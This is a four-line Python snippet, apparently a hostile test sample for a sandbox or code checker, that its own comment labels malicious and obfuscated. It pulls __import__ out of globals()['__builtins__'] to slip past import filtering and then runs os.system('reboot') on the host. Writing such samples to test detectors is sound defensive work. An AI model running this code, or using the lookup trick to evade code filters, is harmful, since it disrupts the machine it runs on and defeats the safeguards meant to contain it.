# Malicious, obfuscated: reaches __import__ through globals()['__builtins__'] to call os.system(reboot).
b = globals()["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else b.__import__
imp("os").system("reboot")
